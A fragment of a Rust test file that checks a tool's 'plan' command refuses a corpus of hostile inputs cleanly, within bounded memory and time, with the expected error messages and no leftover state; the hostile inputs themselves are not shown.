            let target = if name == "parts.yaml" { input.clone() } else { input.join(name) };
            bounded(&s, &["plan", target.to_str().unwrap()], case.env)
        }
    };
    if ok {
        return Err("was accepted".into());
    }
    if !err.contains(case.want) {
        return Err(format!("the error lacks {:?}:\n{err}", case.want));
    }
    check_clean(&s, &images_before, &canary)?;
    Ok(took)
}

#[test]
fn the_hostile_corpus_is_refused_cleanly_in_bounded_memory_and_time() {
    if !require("prlimit and timeout", "command -v prlimit && command -v timeout") {
        return;
    }
    let cases = corpus();
    assert!(cases.len() >= 40, "the corpus has {} cases", cases.len());
    let template = busybox_store();
    let mut failures = Vec::new();
    let mut refused = 0;
    let mut slowest = (Duration::ZERO, "");
    for case in &cases {
        match run_case(case, template.as_ref()) {
            Ok(took) => {
                refused += 1;
                if took > slowest.0 {
                    slowest = (took, case.name);
                }
            }
            Err(why) => failures.push(format!("{}: {why}", case.name)),
        }
    }
    println!("hostile inputs refused: {refused}/{} (slowest: {:?}, {})", cases.len(), slowest.0, slowest.1);
    assert!(failures.is_empty(), "{} of {} cases failed:\n{}", failures.len(), cases.len(), failures.join("\n\n"));
}
